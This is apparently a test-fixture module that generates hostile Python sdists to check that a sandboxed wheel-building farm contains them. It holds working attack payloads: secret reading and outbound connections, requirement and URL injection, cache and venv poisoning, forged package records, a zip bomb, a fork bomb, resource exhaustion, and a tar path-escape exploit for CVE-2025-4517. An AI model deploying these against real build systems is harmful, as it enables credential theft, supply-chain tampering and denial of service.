"""Hostile sdists for the attack corpus (tests/test_e2e_attacks.py): each one's build
backend is in the sdist (`backend-path`), so the attack controls exactly what its
build requirements are, what the backend asks for, what it writes and what it leaves.

    hostile_sdist(dest, "forger", FORGER, context, requires=["setuptools>=61"])

The attack is Python run by the backend (in `get_requires_for_build_wheel`, with
`phase == "requires"`, and in `build_wheel`, `phase == "build"`), with the names of
`context` (the worker's folder, the secrets' paths, ports...) and these helpers:
`attempt(name, action)` prints `hostile NAME: done` or `hostile NAME: refused (Type)`,
`make_wheel(directory, files)` writes a real pure wheel and returns its name; set
`REQUIRES` to answer the requirements hook, `WHEEL` to return another wheel name.
"""

from __future__ import annotations

import io
import json
import tarfile
from collections.abc import Iterable
from pathlib import Path

from sdists import MTIME

BACKEND = r"""
import base64, hashlib, io, json, os, socket, subprocess, sys, zipfile
NAME, VERSION = {name!r}, {version!r}
ATTACK = {attack!r}
CONTEXT = json.loads({context!r})


def attempt(name, action):
    try:
        result = action()
        print(f"hostile {{NAME}} {{name}}: done {{str(result)[:200]!r}}", flush=True)
        return True
    except Exception as e:
        print(f"hostile {{NAME}} {{name}}: refused ({{type(e).__name__}})", flush=True)
        return False


def make_wheel(directory, files=None, metadata=""):
    dist = NAME.replace("-", "_")
    info = f"{{dist}}-{{VERSION}}.dist-info"
    members = dict(files or {{f"{{dist}}/__init__.py": "VALUE = 1\n"}})
    members[f"{{info}}/METADATA"] = (
        f"Metadata-Version: 2.1\nName: {{NAME}}\nVersion: {{VERSION}}\n{{metadata}}"
    )
    members[f"{{info}}/WHEEL"] = (
        "Wheel-Version: 1.0\nGenerator: hostile\nRoot-Is-Purelib: true\nTag: py3-none-any\n"
    )
    record = []
    for path, data in members.items():
        data = data.encode() if isinstance(data, str) else data
        digest = base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode()
        record.append(f"{{path}},sha256={{digest}},{{len(data)}}")
    members[f"{{info}}/RECORD"] = "\n".join(record + [f"{{info}}/RECORD,,"]) + "\n"
    name = f"{{dist}}-{{VERSION}}-py3-none-any.whl"
    with zipfile.ZipFile(os.path.join(directory, name), "w", zipfile.ZIP_DEFLATED) as zf:
        for path, data in members.items():
            zf.writestr(path, data)
    return name


def _run(phase, **more):
    scope = {{**globals(), "phase": phase, **CONTEXT, **more}}
    exec(ATTACK, scope)
    return scope


def get_requires_for_build_wheel(config_settings=None):
    return _run("requires").get("REQUIRES", [])


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    scope = _run("build", wheel_directory=wheel_directory)
    return scope.get("WHEEL") or make_wheel(wheel_directory)
"""


def hostile_sdist(
    dest: Path,
    name: str,
    attack: str,
    context: dict,
    *,
    requires: Iterable[str] = (),
    version: str = "1.0",
    setup_py: str | None = None,
) -> Path:
    """`dest/NAME-VERSION.tar.gz` whose in-tree backend runs `attack` (see the module)."""
    dist = name.replace("-", "_")
    root = f"{dist}-{version}"
    toml = json.dumps
    members = {
        "pyproject.toml": (
            f"[build-system]\nrequires = {toml(list(requires))}\n"
            'build-backend = "hostile_backend"\nbackend-path = ["."]\n'
        ),
        "PKG-INFO": f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n",
        "hostile_backend.py": BACKEND.format(
            name=name, version=version, attack=attack, context=json.dumps(context)
        ),
        f"{dist}/__init__.py": "VALUE = 1\n",
    }
    if setup_py is not None:  # a classic setuptools sdist instead (an sdist-only requirement)
        members = {
            "pyproject.toml": '[build-system]\nrequires = ["setuptools>=61"]\n'
            'build-backend = "setuptools.build_meta"\n',
            "PKG-INFO": members["PKG-INFO"],
            "setup.py": setup_py,
            f"{dist}/__init__.py": "VALUE = 1\n",
        }
    dest.mkdir(parents=True, exist_ok=True)
    path = dest / f"{root}.tar.gz"
    with tarfile.open(path, "w:gz") as tar:
        for member, text in members.items():
            data = text.encode()
            info = tarfile.TarInfo(f"{root}/{member}")
            info.size, info.mtime, info.mode = len(data), MTIME, 0o644
            tar.addfile(info, io.BytesIO(data))
    return path


# --- the attacks: one class of the trust-boundary issue each, varied ---------------------

# Read the worker's and the master's secrets, reach the host's services and the outside.
SNOOP = """
for label, path in (("tac", worker + "/buildbot.tac"), ("users", users_file),
                    ("secret file", secret_file), ("other builder", other + "/secret.txt")):
    attempt("read " + label, lambda path=path: open(path).read())
# bubblewrap makes the way to the build directory, empty: nothing else of it shows
attempt("list worker",
        lambda: [n for n in os.listdir(worker) if not n.startswith("build-")] or 1 / 0)
attempt("read facts", lambda: os.listdir(build + "/.facts") or 1 / 0)
attempt("environment", lambda: [k for k in os.environ if "SECRET" in k] or 1 / 0)
for label, host, port in (("master ui", "127.0.0.1", www_port), ("postgres", "127.0.0.1", 5432),
                          ("slirp gateway", "10.0.2.2", www_port),
                          ("outside", outside_host, outside_port),
                          ("loopback listener", "127.0.0.1", loopback_port)):
    attempt("connect " + label,
            lambda host=host, port=port: socket.create_connection((host, port), timeout=3))
attempt("raw socket", lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW))
# what the kernel keeps per user, not per namespace (x86-64's numbers)
import ctypes
def kernel_call(nr, *args):
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.syscall(nr, *args) < 0:
        raise PermissionError(ctypes.get_errno(), "refused")
    if nr == 56:
        os._exit(0)  # the child of a clone that worked
attempt("add key", lambda: kernel_call(248, b"user", b"farm", b"planted", 7, ctypes.c_long(-4)))
attempt("join keyring", lambda: kernel_call(250, 1, b"farm-ring"))
attempt("persistent keyring", lambda: kernel_call(250, 22, -1, ctypes.c_long(-4)))
attempt("user namespace", lambda: kernel_call(272, 0x10000000))
attempt("clone user namespace", lambda: kernel_call(56, 0x10000000 | 17, 0, 0, 0, 0))
"""

# An sdist among the build requirements (no wheel of it anywhere): its setup.py is code too.
NETDEP_SETUP = (
    "import json, os, socket\nNAME = 'netdep'\n"
    "def attempt(name, action):\n"
    "    try:\n        action()\n        print(f'hostile netdep {name}: done', flush=True)\n"
    "    except Exception as e:\n"
    "        print(f'hostile netdep {name}: refused ({type(e).__name__})', flush=True)\n"
    "globals().update(json.loads({context!r}))\n"
    + SNOOP
    + "from setuptools import setup\nsetup(name='netdep', version='1.0', packages=['netdep'])\n"
)

# Class 4 through a requirement: an sdist-only requirement whose wheel (built by the farm,
# offline) plants dist-infos with RECORDs of their own through `.data/data/`, in the
# real site folder by uv's lib64 link and in another Python's, and rewrites pyvenv.cfg.
PLANTDEP_SETUP = """
import os, sys
from setuptools import setup
py = f"python{sys.version_info[0]}.{sys.version_info[1]}"
os.makedirs("plant", exist_ok=True)
files = {"METADATA": "Metadata-Version: 2.1\\nName: cleanpkg\\nVersion: 1.0\\n",
         "WHEEL": "Wheel-Version: 1.0\\nTag: py3-none-any\\n",
         "RECORD": "cleanpkg-1.0.dist-info/METADATA,,\\n",
         "pyvenv.cfg": "home = /usr/bin\\nversion_info = 3.99.0\\n"}
for name, text in files.items():
    open(os.path.join("plant", name), "w").write(text)
info = ["plant/METADATA", "plant/WHEEL", "plant/RECORD"]
setup(name="plantdep", version="1.0", packages=["plantdep"], data_files=[
    (f"lib64/{py}/site-packages/cleanpkg-1.0.dist-info", info),
    ("lib/python3.99/site-packages/cleanpkg-1.0.dist-info", info),
    ("", ["plant/pyvenv.cfg"]),
])
"""

# Class 1: requirement strings that are options, paths or URLs (static and dynamic).
REQUIRES_OPTION = """
if phase == "requires":
    REQUIRES = ["--index-url=http://%s:%d/simple" % (outside_host, outside_port), "evildep"]
"""

# ... and the wheel's own requirements: a direct reference would make the trusted side's
# installer (the test step's) and every user's pip fetch or read it.
URL_DEPENDENCY = """
if phase == "build":
    url = "http://127.0.0.1:%d/evil-1.0-py3-none-any.whl" % loopback_port
    WHEEL = make_wheel(wheel_directory, metadata=f"Requires-Dist: evil @ {url}\\n")
"""

# ... and the registry's build.env, naming places of the package's own source tree: what
# reads the environment on the trusted side (the toolchain query runs `$CC --version`,
# temporary files, the worker's cache) must never take them. Its backend puts an
# executable there that marks the host if anything outside the sandbox runs it.
ENV_ATTACK = """
if phase == "requires":
    mark = os.environ["CC"]
    os.makedirs(os.path.dirname(mark), exist_ok=True)
    script = "#!/bin/sh\\necho marked > %s/env-attack-ran\\necho 'gcc 9.9.9 (forged)'\\n"
    with open(mark, "w") as f:
        f.write(script % worker)
    os.chmod(mark, 0o755)
    attempt("the backend sees its CC", lambda: os.environ["CC"] or 1 / 0)
"""

# Class 2: links where the host reads (the wheel) or cleans (every writable folder).
LINK_WHEEL = """
if phase == "build":
    WHEEL = "link_wheel-1.0-py3-none-any.whl"
    os.symlink(worker + "/buildbot.tac", os.path.join(wheel_directory, WHEEL))
"""
FIFO_WHEEL = """
if phase == "build":
    WHEEL = "fifo_wheel-1.0-py3-none-any.whl"
    os.mkfifo(os.path.join(wheel_directory, WHEEL))
"""
LINK_PLANT = """
if phase == "build":
    here = os.getcwd()
    for folder in (wheel_directory, here, os.environ.get("PYTHONPYCACHEPREFIX", here)):
        targets = (("worker", worker), ("master", master), ("tac", worker + "/buildbot.tac"))
        for label, target in targets:
            attempt(f"plant {label} link in {os.path.basename(folder)}",
                    lambda f=folder, t=target, l=label: os.symlink(t, os.path.join(f, "zz-" + l)))
    attempt("hard link to the tac", lambda: os.link(worker + "/buildbot.tac", here + "/tac"))
"""

# Class 3: poison what outlives the build: the frontend, the venv, the caches, farmtool.
POISONER = """
if phase == "build":
    import glob
    build = os.path.dirname(os.path.dirname(os.getcwd()))
    targets = [build + "/farmtool.pyz", build + "/.facts/build.json"]
    targets += glob.glob(build + "/.buildtool/build/__init__.py")
    targets += glob.glob(build + "/.buildenv/lib/python3*/site-packages/setuptools/__init__.py")
    targets += [home + "/.cache/wheelfarm/marker", home + "/.cache/uv/marker"]
    for target in targets:
        attempt("poison " + target.replace(build, "BUILD"),
                lambda t=target: open(t, "a").write("\\nBACKDOOR = 'planted'\\n"))
    attempt("poison site", lambda: open(sys.prefix + "/lib/evil.pth", "w").write("import os"))
"""

# Class 4: forge the build record: dist-infos where a glob afterwards would find them.
FORGER = """
if phase == "build":
    build = os.path.dirname(os.path.dirname(os.getcwd()))
    meta = "Metadata-Version: 2.1\\nName: cleanpkg\\nVersion: 9.9.9\\n"
    places = [os.getcwd() + "/lib/python3.11/site-packages",
              os.environ.get("PYTHONPYCACHEPREFIX", "/tmp") + "/lib/python3.11/site-packages",
              build + "/.buildenv/lib/python3.11/site-packages",
              build + "/.buildtool", "/tmp/site-packages"]
    for place in places:
        def forge(place=place):
            os.makedirs(place + "/cleanpkg-9.9.9.dist-info", exist_ok=True)
            open(place + "/cleanpkg-9.9.9.dist-info/METADATA", "w").write(meta)
            open(place + "/cleanpkg-9.9.9.dist-info/WHEEL", "w").write("Tag: py3-none-any\\n")
        attempt("forge in " + place.replace(build, "BUILD"), forge)
    attempt("forge build version", lambda: os.makedirs(build + "/.buildtool/build-9.9.9.dist-info"))
    print('toolchain: {"build": "9.9.9", "compiler": "forged"}', flush=True)
"""

# Class 5: make the host read too much.
BOMB = """
if phase == "build":
    WHEEL = "bomb-1.0-py3-none-any.whl"
    with zipfile.ZipFile(os.path.join(wheel_directory, WHEEL), "w", zipfile.ZIP_DEFLATED) as zf:
        with zf.open("bomb/zeros.bin", "w", force_zip64=True) as f:
            chunk = bytes(1 << 24)
            for _ in range(128):  # 2 GiB of zeros, about 2 MB compressed
                f.write(chunk)
"""
BIG_WHEEL = """
if phase == "build":
    WHEEL = make_wheel(wheel_directory, {"big_wheel/noise.bin": os.urandom(12 << 20)})
"""
LONG_LINES = """
if phase == "build":
    out = sys.stdout.buffer
    out.write(b"x" * (64 << 20))  # one line of 64 MiB, no end
    out.write(b"\\n")
    for _ in range(200_000):
        out.write(b"a chatty backend line that goes on and on and on and on\\n")
    out.flush()
"""

# Class 7: limits.
FORK_BOMB = """
if phase == "build":
    import time
    children = 0
    for _ in range(1000):
        try:
            if os.fork() == 0:
                time.sleep(30)
                os._exit(0)
            children += 1
        except OSError:
            break
    raise SystemExit(f"forked {children} processes")
"""
MEMORY_HOG = """
if phase == "build":
    hog = bytearray(2 << 30)
    hog[::4096] = b"x" * len(hog[::4096])
"""
DISK_FILL = """
if phase == "build":
    with open(os.getcwd() + "/fill.bin", "wb") as f:
        for _ in range(64):
            f.write(os.urandom(1 << 20) * 16)  # 1 GiB in all
"""


def escaping_sdist(dest: Path, name: str, unpacked_at: Path, up: int, files: dict) -> Path:
    """An sdist whose members pass every check of names and links, read as text, yet land
    `up` folders above the one it is unpacked in (`unpacked_at`) when tarfile resolves
    them: a chain of links whose real path outgrows PATH_MAX, where Python's
    `os.path.realpath` (which tarfile's `data` filter asks) stops resolving
    (CVE-2025-4517, in Python before 3.11.13 and 3.12.11)."""
    root = f"{name}-1.0"
    hops = "abcdefghijklmnop"
    # each hop's folder name long enough that the whole chain passes 4096 characters
    width = (4096 - len(str(unpacked_at)) - len(root) - 2) // (len(hops) + 1)
    folder = "d" * width
    members: list[tarfile.TarInfo] = []
    data: dict[str, bytes] = {}

    def member(path: str, kind: bytes = tarfile.REGTYPE, link: str = "", body: bytes = b""):
        info = tarfile.TarInfo(path)
        info.type, info.mtime, info.mode, info.linkname = kind, MTIME, 0o755, link
        info.size = len(body) if kind == tarfile.REGTYPE else 0
        members.append(info)
        data[path] = body

    member(f"{root}/pyproject.toml", body=b"[build-system]\nrequires = []\n")
    member(f"{root}/setup.py", body=b"")
    path = root
    for hop in hops:
        member(f"{path}/{folder}", tarfile.DIRTYPE)
        member(f"{path}/{hop}", tarfile.SYMTYPE, folder)
        path = f"{path}/{folder}"
    through = "/".join(hops) + "/" + "l" * 254
    member(f"{root}/{through}", tarfile.SYMTYPE, "/".join([".."] * len(hops)))
    member(f"{root}/escape", tarfile.SYMTYPE, through + "/.." + "/.." * up)
    for relative, body in files.items():
        member(f"{root}/escape/{relative}", body=body)
    dest.mkdir(parents=True, exist_ok=True)
    sdist = dest / f"{root}.tar.gz"
    with tarfile.open(sdist, "w:gz") as tar:
        for info in members:
            tar.addfile(info, io.BytesIO(data[info.name]) if info.isfile() else None)
    return sdist
